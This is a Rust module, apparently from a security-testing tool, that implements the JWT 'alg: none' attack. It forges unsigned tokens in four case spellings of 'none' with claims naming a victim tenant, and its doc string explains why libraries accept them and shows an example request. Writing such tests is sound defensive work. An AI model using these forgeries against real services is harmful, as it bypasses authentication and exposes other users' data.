//! `token.alg-none`: an unsigned token.

use super::{forged, forgeries};
use crate::attack::{Attack, Attempt, Ground, Scope};
use crate::model::call::Signature;

/// An unsigned token.
pub(in crate::attack) struct AlgNone;

/// The spellings, with names by which variants stay apart.
const SPELLINGS: &[(&str, &str)] = &[
    ("none", "none"),
    ("None", "None"),
    ("NONE", "NONE"),
    ("nOnE", "nOnE"),
];

const DOC: &str = r#"## What it does
Sets `alg` in the token's header to `none`, in four spellings, takes the signature away, and lets the claims name the victim.

## Why teams fall for it
The token says how it is to be verified, and the library believes it; a check against `none` compares exactly, and `nOnE` is
parsed in any case. (A known hazard; of the collection of real leaks RL-46 is next of kin: each half is validated, alone.)

## A correct target
Knows its algorithm and takes no other: 401.

## Example
    GET /services
    Host: victim.example.com
    Authorization: Bearer <header with "alg":"none">.<payload with the victim's tenant>.
"#;

impl Attack for AlgNone {
    fn id(&self) -> &'static str {
        "token.alg-none"
    }

    fn title(&self) -> &'static str {
        "an unsigned token"
    }

    fn doc(&self) -> &'static str {
        DOC
    }

    fn scope(&self) -> Scope {
        Scope::Middleware
    }

    fn attempts(&self, ground: &Ground<'_>) -> Vec<Attempt> {
        let mut all = Vec::new();
        for (index, (who, claims)) in forgeries(ground).into_iter().enumerate() {
            let spellings = if index == 0 {
                ground.afford(SPELLINGS.len())
            } else {
                1
            };
            for (variant, spelling) in SPELLINGS.iter().take(spellings) {
                let signature = Signature::None((*spelling).to_owned());
                let attempt = forged(ground, claims.clone(), signature);
                all.push(attempt.named(format!("{who}, {variant}")));
            }
        }
        all
    }
}
